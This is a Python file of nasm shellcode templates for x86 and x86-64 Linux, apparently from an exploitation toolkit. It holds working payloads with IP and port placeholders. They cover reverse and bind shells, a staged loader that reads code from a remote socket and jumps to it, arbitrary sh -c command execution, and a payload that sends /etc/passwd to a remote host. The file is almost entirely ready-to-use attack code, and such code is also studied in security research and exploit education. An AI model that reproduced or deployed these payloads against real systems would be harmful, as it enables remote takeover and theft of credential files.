# SPDX-License-Identifier: GPL-2.0-or-later
"""Shellcode of x86 and x86-64, for nasm."""

SHELL_64 = '''
    push 3
    pop rsi
again: dec esi
    push 33
    pop rax
    syscall
    jnz again
    xor edx, edx
    push rdx
    mov rax, 0x68732f2f6e69622f
    push rax
    mov rdi, rsp
    push rdx
    push rdi
    mov rsi, rsp
    push 59
    pop rax
    syscall
'''
SOCKET_64 = '''
BITS 64
    push 41
    pop rax
    cdq
    push 2
    pop rdi
    push 1
    pop rsi
    syscall
    xchg eax, edi
'''
SHELL_32 = '''
    push 2
    pop ecx
again: mov al, 63
    int 0x80
    dec ecx
    jns again
    xor eax, eax
    push eax
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    push eax
    push ebx
    mov ecx, esp
    cdq
    mov al, 11
    int 0x80
'''
SOCKETCALL_32 = '''
BITS 32
    xor ebx, ebx
    mul ebx
    push ebx
    inc ebx
    push ebx
    push 2
    mov ecx, esp
    mov al, 0x66
    int 0x80
    xchg eax, esi
'''
# jmp, call, pop: sh -c with a command that stands behind the code
RUN_32 = '''
BITS 32
    jmp down
up: pop esi
    xor eax, eax
    mov [esi + end - text], al
    lea edi, [esi + end - text + 1]
    push eax
    push 0x632d
    mov ecx, esp
    push eax
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    cdq
    push edx
    push esi
    push ecx
    push ebx
    mov ecx, esp
    mov al, 11
    int 0x80
down: call up
text: db "{COMMAND}"
end: db "X"
'''
RUN_64 = '''
BITS 64
    xor edx, edx
    lea rdi, [rel shell]
    lea rcx, [rel option]
    lea rbx, [rel text]
    push rdx
    push rbx
    push rcx
    push rdi
    mov rsi, rsp
    push 59
    pop rax
    syscall
shell: db "/bin/sh", 0
option: db "-c", 0
text: db "{COMMAND}", 0
'''

# name, language, kind, source
DESIGNS = [
    ('reverse', 'x86-64', 'connect', SOCKET_64 + '''
    push rdx
    mov dword [rsp + 4], {IP}
    mov dword [rsp], {PORT_IN}
    mov rsi, rsp
    push 16
    pop rdx
    push 42
    pop rax
    syscall
''' + SHELL_64),
    ('bind', 'x86-64', 'listen', SOCKET_64 + '''
    push rdx
    push rdx
    mov dword [rsp], {PORT_IN}
    mov rsi, rsp
    push 16
    pop rdx
    push 49
    pop rax
    syscall
    push 1
    pop rsi
    push 50
    pop rax
    syscall
    xor esi, esi
    cdq
    push 43
    pop rax
    syscall
    xchg eax, edi
''' + SHELL_64),
    ('staged', 'x86-64', 'connect', SOCKET_64 + '''
    push rdi
    push rdx
    mov dword [rsp + 4], {IP}
    mov dword [rsp], {PORT_IN}
    mov rsi, rsp
    push 16
    pop rdx
    push 42
    pop rax
    syscall
    push 9
    pop rax
    xor edi, edi
    mov esi, 4096
    push 7
    pop rdx
    push 0x22
    pop r10
    push -1
    pop r8
    xor r9, r9
    syscall
    xchg rsi, rax
    pop rdi
    pop rdi
    mov edx, 4096
    xor eax, eax
    syscall
    test eax, eax
    jle out
    jmp rsi
out: push 60
    pop rax
    xor edi, edi
    syscall
'''),
    ('command', 'x86-64', 'run', RUN_64),
    ('file', 'x86-64', 'connect', SOCKET_64 + '''
    push rdi
    push rdx
    mov dword [rsp + 4], {IP}
    mov dword [rsp], {PORT_IN}
    mov rsi, rsp
    push 16
    pop rdx
    push 42
    pop rax
    syscall
    lea rdi, [rel name]
    xor esi, esi
    push 2
    pop rax
    syscall
    xchg eax, edi
    sub rsp, 256
    mov rsi, rsp
    mov edx, 256
    xor eax, eax
    syscall
    xchg eax, edx
    mov rdi, [rsp + 264]
    push 1
    pop rax
    syscall
    push 60
    pop rax
    xor edi, edi
    syscall
name: db "/etc/passwd", 0
'''),
    ('datagram', 'x86-64', 'connect', '''
BITS 64
    push 41
    pop rax
    cdq
    push 2
    pop rdi
    push 2
    pop rsi
    syscall
    xchg eax, edi
    push rdx
    mov dword [rsp + 4], {IP}
    mov dword [rsp], {PORT_IN}
    mov r8, rsp
    push 16
    pop r9
    lea rsi, [rel text]
    push 5
    pop rdx
    xor r10, r10
    push 44
    pop rax
    syscall
    push 60
    pop rax
    xor edi, edi
    syscall
text: db "hello"
'''),
    ('reverse', 'x86', 'connect', SOCKETCALL_32 + '''
    push {IP}
    push {PORT_IN}
    mov ecx, esp
    push 16
    push ecx
    push esi
    mov ecx, esp
    push 3
    pop ebx
    push 0x66
    pop eax
    int 0x80
    mov ebx, esi
''' + SHELL_32),
    ('bind', 'x86', 'listen', SOCKETCALL_32 + '''
    push edx
    push edx
    push {PORT_IN}
    mov ecx, esp
    push 16
    push ecx
    push esi
    mov ecx, esp
    inc ebx
    push 0x66
    pop eax
    int 0x80
    push edx
    push esi
    mov ecx, esp
    mov bl, 4
    mov al, 0x66
    int 0x80
    push edx
    push edx
    push esi
    mov ecx, esp
    mov bl, 5
    mov al, 0x66
    int 0x80
    xchg eax, ebx
''' + SHELL_32),
    ('listen without bind', 'x86', 'listen any', SOCKETCALL_32 + '''
    push 1
    push esi
    mov ecx, esp
    mov bl, 4
    push 0x66
    pop eax
    int 0x80
    push edx
    push edx
    push esi
    mov ecx, esp
    mov bl, 5
    push 0x66
    pop eax
    int 0x80
    xchg eax, ebx
''' + SHELL_32),
    ('reverse by plain calls', 'x86', 'connect', '''
BITS 32
    xor edx, edx
    push 2
    pop ebx
    push 1
    pop ecx
    mov eax, 359
    int 0x80
    xchg eax, ebx
    push {IP}
    push {PORT_IN}
    mov ecx, esp
    push 16
    pop edx
    mov eax, 362
    int 0x80
    xor eax, eax
''' + SHELL_32),
    ('command', 'x86', 'run', RUN_32),
]
